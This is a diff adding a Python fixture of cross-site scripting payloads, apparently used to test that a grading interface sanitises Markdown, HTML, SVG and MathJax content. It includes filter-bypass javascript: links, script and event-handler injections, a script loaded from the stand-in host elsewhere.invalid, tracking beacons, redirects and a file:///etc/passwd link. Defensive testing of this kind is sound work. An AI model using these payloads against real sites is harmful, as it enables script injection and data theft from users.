@@ -1,0 +1,136 @@
+"""Answers that would run a script, load something or take a grader elsewhere, if a page obeyed them.
+
+Each sets `window.__pwned`, or asks HOST for something. None of them may do anything in any browser.
+"""
+
+from __future__ import annotations
+
+import base64
+
+HOST = "https://elsewhere.invalid"
+RUN = "window.__pwned=1"
+PAGE = f"<script>parent.__pwned=1;top.__pwned=1;{RUN}</script>"
+SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+PAYLOADS = {
+    # Links that run a script.
+    "link": f"[x](javascript:{RUN})",
+    "link in capitals": f"[x](JaVaScRiPt:{RUN})",
+    "link after a blank": f"[x](<  javascript:{RUN}>)",
+    "link after a control character": f"[x](<\x01javascript:{RUN}>)",
+    "link with a tab as entity": f"[x](java&#9;script:{RUN})",
+    "link with a line feed as entity": f"[x](java&#10;script:{RUN})",
+    "link with named entities": f"[x](java&Tab;script&colon;{RUN})",
+    "link in decimal entities": "[x](" + "".join(f"&#{ord(c)};" for c in "javascript") + f":{RUN})",
+    "link in hexadecimal entities": "[x](&#x6A;avascript&#x3a;window.__pwned=1)",
+    "link in percent signs": "[x](%6Aavascript:window.__pwned=1)",
+    "link with an escape": f"[x](javascript\\:{RUN})",
+    "link with a title": f"[x](javascript:{RUN} \"a' onmouseover='{RUN}\")",
+    "link that breaks out of its attribute": f'[x](https://a.invalid/"onmouseover="{RUN})',
+    "link that breaks out of its tag": f"[x](<https://a.invalid/'><script>{RUN}</script>>)",
+    "link of two schemes": f"[x](https:javascript:{RUN})",
+    "link with a false slash": f"[x](javascript://%0a{RUN})",
+    "link to a page in itself": f"[x](data:text/html;base64,{b64(PAGE)})",
+    "link to a picture that is a page": f"[x](data:image/svg+xml;base64,{b64(SVG)})",
+    "link in vbscript": "[x](vbscript:msgbox(1))",
+    "link to a file": "[x](file:///etc/passwd)",
+    "link to a blob": "[x](blob:https://a.invalid/1)",
+    "link to the source of a page": "[x](view-source:https://a.invalid)",
+    "link relative to the page": "[x](../../api/submission/1)",
+    "link to the server's root": "[x](/formgrader/api/assignments)",
+    "link without a scheme": "[x](//elsewhere.invalid/x)",
+    "link to a place of the page": "[x](#why)",
+    "link to a question": "[x](?index=0)",
+    "reference": f"[x][1]\n\n[1]: javascript:{RUN}",
+    "reference without a name": f"[x][]\n\n[x]: <javascript:{RUN}>",
+    "reference of one word": f"[x]\n\n[x]: data:text/html,{PAGE}",
+    "reference on two lines": f"[x][1]\n\n[1]:\n  javascript:{RUN}\n  'title'",
+    "address in angles": f"<javascript:{RUN}>",
+    "address in angles with a page": "<data:text/html,hello>",
+    "address of mail that is a script": f"<javascript:{RUN}@a.invalid>",
+    "link around a picture": f"[![x](attachment:x)](javascript:{RUN})",
+    "link in a heading": f"# [x](javascript:{RUN})",
+    "link in a table": f"|a|b|\n|-|-|\n|[x](javascript:{RUN})|c|",
+    "link in a list of tasks": f"- [ ] [x](javascript:{RUN})",
+    "link in a definition": f"a\n: [x](javascript:{RUN})",
+    # Pictures from elsewhere, and what claims to be one.
+    "picture from elsewhere": f"![x]({HOST}/a.png)",
+    "picture from elsewhere without a scheme": "![x](//elsewhere.invalid/a.png)",
+    "picture by reference": f"![x][1]\n\n[1]: {HOST}/a.png",
+    "picture that is a script": f"![x](javascript:{RUN})",
+    "picture that is a drawing": f"![x](data:image/svg+xml;base64,{b64(SVG)})",
+    "picture that is a page": f"![x](data:text/html;base64,{b64(PAGE)})",
+    "picture of the server": "![x](/formgrader/api/assignments)",
+    "picture that breaks out of its text": f'![x" onerror="{RUN}](attachment:x)',
+    "picture that breaks out of its name": f'![x](attachment:x"onerror="{RUN})',
+    "picture with a name that is a page": f"![x](attachment:<script>{RUN}</script>)",
+    # HTML.
+    "script": f"<script>{RUN}</script>",
+    "script on a line of its own": f"a\n\n<script>\n\n{RUN}\n\n</script>",
+    "script from elsewhere": f"<script src={HOST}/a.js></script>",
+    "script with odd tags": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "script in capitals and slashes": f"<SCRIPT/x>{RUN}</SCRIPT>",
+    "script after a null": f"<\x00script>{RUN}</script>",
+    "script as entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    "script after a comment": f"<!--><script>{RUN}</script>-->",
+    "script after a comment that is closed oddly": f"<!-- --!><script>{RUN}</script>",
+    "script after an instruction": f"<?x ><script>{RUN}</script>?>",
+    "script after a section": f"<![CDATA[><script>{RUN}</script>]]>",
+    "link in HTML": f"<a href='javascript:{RUN}'>x</a>",
+    "link in a block of HTML": f'<div>\n<a href="java\nscript:{RUN}">x</a>\n</div>',
+    "picture in HTML": f"<img src=x onerror={RUN}>",
+    "picture in HTML that is not closed": f"<img src=x onerror={RUN} ",
+    "picture in HTML from elsewhere": f"<img src={HOST}/a.png srcset='{HOST}/b.png 2x'>",
+    "picture in HTML with slashes": f"<img/src/onerror={RUN}>",
+    "drawing": SVG,
+    "drawing that moves": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    "drawing with a link": f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
+    "drawing with a use": f"<svg><use href='data:image/svg+xml;base64,{b64(SVG)}#x'/></svg>",
+    "drawing with foreign content": f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    "formula in HTML": f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
+    "formula that changes its parser": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    "frame": f'<iframe srcdoc="{PAGE}"></iframe>',
+    "frame of a script": f"<iframe src='javascript:parent.{RUN}'></iframe>",
+    "frame from elsewhere": f"<iframe src={HOST}></iframe>",
+    "object": f"<object data='data:text/html;base64,{b64(PAGE)}'></object>",
+    "embedded page": f"<embed src='{HOST}/a.swf'>",
+    "style": f"<style>@import url({HOST}/a.css); * {{ background: url({HOST}/a.png) }}</style>",
+    "style of an element": f"<p style='background:url({HOST}/a.png)'>x</p>",
+    "sheet of styles": f"<link rel=stylesheet href={HOST}/a.css>",
+    "another base": f"<base href={HOST}/>",
+    "goes elsewhere": f"<meta http-equiv=refresh content='0;url={HOST}/'>",
+    "form": f"<form action={HOST}><input name=x autofocus onfocus={RUN}><button>x</button></form>",
+    "film": f"<video src={HOST}/a.mp4 autoplay onerror={RUN}></video>",
+    "details": f"<details open ontoggle={RUN}>x</details>",
+    "focus": f"<p tabindex=0 autofocus onfocus={RUN}>x</p>",
+    "end of the page": f"</div></div></body></html><script>{RUN}</script>",
+    "template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
+    # What Markdown itself makes.
+    "code": f"```html\n<script>{RUN}</script>\n```",
+    "code of a drawing program": f"```mermaid\n</pre><img src=x onerror={RUN}>\n```",
+    "code in a language that is an attribute": f'```x"onmouseover="{RUN}\na\n```',
+    "code in a language of two classes": "```x tex2jax_process score\n$\\href{javascript:window.__pwned=1}{x}$\n```",
+    "code between ticks": f"`<script>{RUN}</script>`",
+    "alignment of a table": f"|a|\n|:-:|\n|<img src=x onerror={RUN}>|",
+    "name of a field of the page": "# why\n\n# submission_id\n\n<a id=why name=why>x</a>",
+    # Formulas, which MathJax reads in the page.
+    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$",
+    "formula with a link, displayed": f"$$\\href{{javascript:{RUN}}}{{x}}$$",
+    "formula with a link in parentheses": f"\\\\(\\href{{javascript:{RUN}}}{{x}}\\\\)",
+    "formula with a link in entities": f"&#36;&#92;href{{javascript:{RUN}}}{{x}}&#36;",
+    "formula with a link in an environment": f"\\begin{{equation}}\\href{{javascript:{RUN}}}{{x}}\\end{{equation}}",
+    "formula with a link by a name of its own": f"$\\def\\a{{\\href}}\\a{{javascript:{RUN}}}{{x}}$",
+    "formula with a link broken by a line": f"$\\href\n{{javascript:{RUN}}}{{x}}$",
+    "formula with a style": f"$\\style{{background:url({HOST}/a.png)}}{{x}}$",
+    "formula with a box": f"$\\bbox[background:url({HOST}/a.png)]{{x}}$",
+    "formula with a class": "$\\class{score}{x}\\cssId{why}{x}$",
+    "formula with attributes": f"$\\mmlToken{{mi}}[href='javascript:{RUN}']{{x}}$",
+    "formula that loads": "$\\require{../../evil}x$",
+    "formula that is a page": f"$<img src=x onerror={RUN}>$",
+    "formula that ends its text": f"$</p><script>{RUN}</script>$",
+}
